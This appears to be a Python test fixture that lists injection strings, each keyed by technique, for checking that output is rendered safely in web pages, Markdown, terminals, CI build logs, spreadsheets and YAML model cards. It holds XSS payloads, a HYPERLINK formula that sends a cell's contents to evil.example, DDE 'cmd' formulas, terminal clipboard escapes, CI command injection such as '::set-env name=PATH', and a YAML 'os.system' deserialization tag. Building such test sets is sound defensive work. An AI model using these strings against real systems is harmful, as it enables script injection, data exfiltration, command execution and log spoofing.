"""Text that attacks whoever shows it, one string for each way: markup, terminals, build logs, spreadsheets.

Each string is our own. The keys name the way; a test that fails names the key.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["HOSTILE"]

HOSTILE: Mapping[str, str] = {
    # A page: tags, attributes, endings of raw text, embedded data, templates.
    "script tag": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(2)</script>",
    "image that fails": "<img src=x onerror=alert(3)>",
    "out of an attribute": '"\' onmouseover=alert(4) x="><svg onload=alert(5)>',
    "end of raw text": "</textarea></style></title><b>",
    "script address": "javascript:alert(6)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "comment and entities": "<!-- --> &lt;b&gt; &#x3c; <details>",
    "meta and base": '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "end of character data": "]]><injected/>&undefined;<?php ?>",
    # Markdown: tables, fences, headings, links, images, references, rules, mentions.
    "table cells": "a | b | c\n| d |\n|---|",
    "fence and heading": "```\n# Heading\n```\n~~~",
    "backticks": "` `` ``` a `b`",
    "links and images": "[x](javascript:alert(7)) ![y](http://evil.example/z.png) <http://evil.example>",
    "reference": "[x]: http://evil.example\n[x][x] [^1]\n\n[^1]: note",
    "rule and underline": "title\n===\n---\n***\n- [ ] task",
    "mentions": "@all #1 gh-2 https://evil.example www.evil.example octo/repo#3",
    "mark of ours": "<!-- robustness core: end --><!-- robustness core: begin -->",
    "mathematics": "$$\\href{javascript:alert(8)}{x}$$",
    # Terminals: colours, cursor, title, link, clipboard, overprinting, bells.
    "escape sequences": "\x1b[2J\x1b[31mred\x1b[1;1H\x1bc",
    "operating system commands": "\x1b]8;;http://evil.example\x07x\x1b]52;c;eA==\x07\x1b]0;title\x07",
    "eight-bit controls": "\x9b31m\x9d0;t\x9c\x90q\x9c",
    "overprinting": "PASS\rFAIL\x08\x08\x08\x08PASS\x07\x7f\x00",
    "line ends": "a\u2028b\u2029c\x0bd\x0ce\x85f\r\ng",
    "console markup": "[bold]x[/bold] [/] [link=http://evil.example]y[/link]",
    # What is not seen, or seen elsewhere.
    "bidi override": "\u202egnp.exe\u202c \u2066isolate\u2069 \u200f\u061c",
    "zero width": "pa\u200bss\u200c\u200d\u2060\ufeff\u00ad",
    "look-alikes": "ра\u0455\u0455 Ｆａｉｌ",
    "combining marks": "a" + "\u0301" * 10_000,
    "tag characters": "x\U000e0041\U000e0042",
    "lone surrogates": "\ud800 lone \udfff",
    "not characters": "\ufffe\uffff\U0010ffff",
    # Build logs: commands of GitHub, Azure Pipelines, TeamCity, GitLab.
    "workflow error": "\n::error file=x,line=1::pwned",
    "workflow output": "\n::set-output name=status::pass\n::set-env name=PATH::/tmp",
    "workflow stop": "\n::stop-commands::token\n::add-mask::a\n::save-state name=x::y\n::group::x",
    "workflow encoded": "%0A::error::pwned%0D%25",
    "runner command": "##[error]pwned\n##[group]x",
    "pipelines command": "##vso[task.setvariable variable=x]y",
    "server command": "##teamcity[buildStatus status='SUCCESS']",
    "log section": "\x1b[0Ksection_start:1700000000:x[collapsed=true]\r\x1b[0K",
    "step output": "x\nstatus=pass\nstatus<<END\npass\nEND",
    # Spreadsheets.
    "formula": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "sum": "+1+1",
    "difference": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "wide formula": "＝1+1",
    "formula after a delimiter": 'a,=1+1;=1+1\t=1+1|=1+1","=1+1";\'=1+1',
    # YAML of a model card.
    "end of metadata": "\n---\nlicense: mit\n---\n",
    "object tag": "!!python/object/apply:os.system ['true']",
    "anchors": "&a [*a, *a]\n? {x: y}\n- : #",
}
